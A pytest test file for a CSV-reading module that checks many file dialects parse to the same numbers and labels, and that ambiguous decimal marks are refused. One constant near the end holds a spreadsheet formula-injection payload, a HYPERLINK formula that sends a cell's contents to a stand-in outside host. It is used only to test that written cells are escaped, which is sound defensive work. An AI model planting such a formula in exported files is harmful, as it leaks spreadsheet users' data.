"""CSV files in every dialect give the same bits, and what could be read in two ways is refused."""

import csv
import re
import unicodedata
from pathlib import Path

import numpy as np
import pytest
from hypothesis import given
from hypothesis import strategies as st

from fedul_flwr.data.columns import Column, Columns
from fedul_flwr.data.csv_files import open_csv, plain_numbers, read_cell, read_rows, write_cell
from fedul_flwr.data.encode import encode
from fedul_flwr.data.local_data import load_unlabeled_sets
from fedul_flwr.data.run_files.label_files import read_labels, write_labels
from fedul_flwr.data.sources import load_source
from fedul_flwr.data.table_files import read_table
from fedul_flwr.data.tables import TableOptions
from fedul_flwr.data.types import Propagated
from tests.support.points import load_points
from tests.support.refusals import refuses

PLAIN = (
    '"Größe\n(cm)",dose,note,label\n170.5,1234.5,"mild, or not",ill\n'
    '-0.25,1.5,"a ""b""",well\n1e-3,7,"two\nlines",ill\n'
)
"""The content of all dialects, in UTF-8 with commas."""
NUMBERS = [[170.5, 1234.5], [-0.25, 1.5], [0.001, 7]]


def in_columns(text: str, separator: str, *, comma: bool = False) -> str:
    """The same content with another separator, and perhaps decimal commas."""
    cells = re.findall(r'"(?:[^"]|"")*"|[^,\n]+|\n', text)
    lines: list[list[str]] = [[]]
    for cell in cells:
        if cell == "\n":
            lines.append([])
        else:
            is_number = re.fullmatch(r"[-\d.e]+", cell)
            lines[-1].append(cell.replace(".", ",") if comma and is_number else cell)
    return "\n".join(separator.join(line) for line in lines)


GERMAN = in_columns(PLAIN, ";", comma=True)
NOTES = {
    "plain": (),
    "UTF-16": ("train.csv, test.csv: separated by a tab, UTF-16, decimal comma",),
    "comments": ("train.csv, test.csv: 2 comment lines at the top left out",),
}
"""What is said of how files were read."""
DIALECTS = {
    "plain": PLAIN.encode(),
    "byte order mark, CR LF": b"\xef\xbb\xbf" + PLAIN.replace("\n", "\r\n").encode(),
    "CR": PLAIN.replace("\n", "\r").encode(),
    "Excel in German": b"\xef\xbb\xbf" + GERMAN.replace("\n", "\r\n").encode(),
    "Windows-1252": GERMAN.encode("cp1252"),
    "UTF-16": in_columns(PLAIN, "\t", comma=True).encode("utf-16"),
    "tabs": in_columns(PLAIN, "\t").encode(),
    "bars": in_columns(PLAIN, "|").encode(),
    "sep=": b"sep=;\r\n" + GERMAN.encode(),
    "thousands": GERMAN.replace("1234,5", "1.234,5").encode(),
    "quoted decimal commas": re.sub(r"(-?\d+)\.(\d+)", r'"\1,\2"', PLAIN).encode(),
    "empty lines": PLAIN.replace("label\n", "label\n\n").encode() + b"\n\n  \n",
    "empty rows and a separator at the end": re.sub(
        r"(label|ill|well)$", r"\1;", GERMAN, flags=re.MULTILINE
    ).encode()
    + b";;;;\n;;;;\n",
    "comments": b"# from the ward, 2024\n# second line\n" + PLAIN.encode(),
    "DOS": PLAIN.encode() + b"\x1a",
    "a space before quotes": PLAIN.replace(',"', ', "').encode(),
    "decomposed letters": unicodedata.normalize("NFD", PLAIN).encode(),
}
COLUMNS = Columns((Column("Größe\n(cm)"), Column("dose")))


@pytest.mark.parametrize("dialect", DIALECTS)
def test_given_the_same_content_in_any_dialect_then_arrays_and_classes_are_the_same(
    dialect: str, tmp_path: Path
) -> None:
    for split in ("train", "test"):
        (tmp_path / f"{split}.csv").write_bytes(DIALECTS[dialect])
    source = load_source(str(tmp_path), table=TableOptions(columns=COLUMNS))
    assert source.train.inputs.tobytes() == np.array(NUMBERS, np.float32).tobytes()
    assert source.class_names == ("ill", "well")
    assert source.train.labels.tolist() == [0, 1, 0]
    assert source.notes == NOTES.get(dialect, source.notes)
    notes = open_csv(tmp_path / "train.csv").column("note").to_pylist()
    assert notes == ["mild, or not", 'a "b"', "two\nlines"]


@pytest.mark.parametrize(
    ("text", "numbers"),
    [
        ("a;b\n1,5;2\n2,25;3\n", [["1.5", "2.25"], ["2", "3"]]),
        ("a;b\n1.234,5;1\n1.234;2\n", [["1234.5", "1234"], ["1", "2"]]),
        ("a;b\n1.234.567;1\n2,5;2\n", [["1234567", "2.5"], ["1", "2"]]),
        ('a,b\n"1,234.5",1\n"1,234",2\n', [["1234.5", "1234"], ["1", "2"]]),
        ("a;b\n1 234,5;1\n-2'000;2\n", [["1234.5", "-2000"], ["1", "2"]]),
        ("a;b\n0,123;1\n4,567;2\n", [["0.123", "4.567"], ["1", "2"]]),
        ("a,b\n1.234,2\n5.678,3\n", [["1.234", "5.678"], ["2", "3"]]),
        ("a;b\n1.234;2.5\n5.678;3\n", [["1.234", "5.678"], ["2.5", "3"]]),
        ("a\tb\n1.234\t2\n", [["1.234"], ["2"]]),
        ("a;b\n ;1\n 2,5 ;+3\n", [[None, "2.5"], ["1", "+3"]]),
    ],
)
def test_numbers_whose_meaning_the_file_shows(
    text: str, numbers: list[list[str | None]], tmp_path: Path
) -> None:
    (tmp_path / "a.csv").write_text(text)
    found = plain_numbers(open_csv(tmp_path / "a.csv"), ["a", "b"]).content
    assert [column.to_pylist() for column in found.columns] == numbers


@pytest.mark.parametrize("extra", ["x,x,", '"note\nfree",id,', "date;time,1.234,", "kg,kg,"])
def test_given_columns_that_the_run_leaves_out_then_nothing_in_them_is_refused(
    extra: str, tmp_path: Path
) -> None:
    rows = '"1,5",37.25,1\n"9.9.99","",2\n'
    (tmp_path / "a.csv").write_text(f"{extra}b\n{rows}")
    options = TableOptions(columns=Columns((Column("b"),)))
    names, points = load_points(tmp_path / "a.csv", (1,), options)
    assert names == ["0", "1"]
    assert points.tolist() == [[1], [2]]


def test_sets_and_their_priors_in_german_and_in_capitals(tmp_path: Path) -> None:
    (tmp_path / "PRIORS.CSV").write_text("set;ill;sound\nJAN;0,8;0,2\nJUN.csv;0,25;0,75\n")
    for name in ("JAN.CSV", "JUN.CSV"):
        (tmp_path / name).write_text("a;b\n1,5;2\n2,5;3\n")
    options = TableOptions(columns=Columns((Column("a"), Column("b"))))
    sets = load_unlabeled_sets(tmp_path, ["ill", "sound"], 2, (2,), table=options)
    assert sets.priors.tolist() == [[0.8, 0.2], [0.25, 0.75]]
    assert sets.inputs.tolist() == [[1.5, 2], [2.5, 3]] * 2
    assert sets.notes == (
        "JAN.CSV, JUN.CSV: separated by ;, decimal comma",
        "PRIORS.CSV: separated by ;",
    )


def test_a_point_that_nothing_explains_is_refused_beside_a_decimal_comma(tmp_path: Path) -> None:
    columns = Columns((Column("a"), Column("b")))
    tables = {}
    for row in ("1.234,5\t2", "1.234\t2", "1.234\t2.5", "0.512\t2"):
        (tmp_path / f"{len(tables)}.csv").write_text(f"a\tb\n{row}\n")
        file = tmp_path / f"{len(tables)}.csv"
        _, tables[row] = read_table(file, TableOptions(columns=columns))
    comma, doubtful, *clear = tables.values()
    found = [one.values.tolist()[0] for one in encode([comma, *clear], columns)]
    assert found == np.array([[1234.5, 2], [1.234, 2.5], [0.512, 2]], np.float32).tolist()
    assert encode([doubtful, *clear], columns)[0].values[0, 0] == np.float32(1.234)
    with refuses("decimal-mark"):
        encode([doubtful, comma], columns)


@pytest.mark.parametrize("end", ["", ",", ",,"])
def test_rows_keep_texts_that_tables_take_as_missing(end: str, tmp_path: Path) -> None:
    (tmp_path / "labels.csv").write_text(f"name,label{end}\nNA,null{end}\na,{end}\n")
    rows = [["name", "label"], ["NA", "null"], ["a", ""]]
    assert read_rows(tmp_path / "labels.csv") == (rows, ())


FORMULA = '=HYPERLINK("http://example.org/?"&A1)'


@given(st.text(alphabet="'=+-@\t\rab", max_size=6))
def test_given_any_text_when_written_and_read_then_it_is_the_same(text: str) -> None:
    written = write_cell(text)
    assert read_cell(written) == text
    assert not written.startswith(("=", "+", "-", "@", "\t", "\r"))


def test_given_a_formula_for_a_files_name_when_labeled_then_it_is_text(tmp_path: Path) -> None:
    found = Propagated(np.array([1]), np.array([0.5]))
    write_labels(tmp_path / "labels.csv", [FORMULA], found, ["sound", "-ill"])
    with (tmp_path / "labels.csv").open(newline="") as stream:
        _, row = csv.reader(stream)
    assert row == [f"'{FORMULA}", "1", "'-ill", "0.5"]
    names, _ = read_labels(tmp_path / "labels.csv")
    assert names == [FORMULA]
    # The same file may come back as an owner's known labels.
    rows, _ = read_rows(tmp_path / "labels.csv")
    assert rows[1][0] == FORMULA
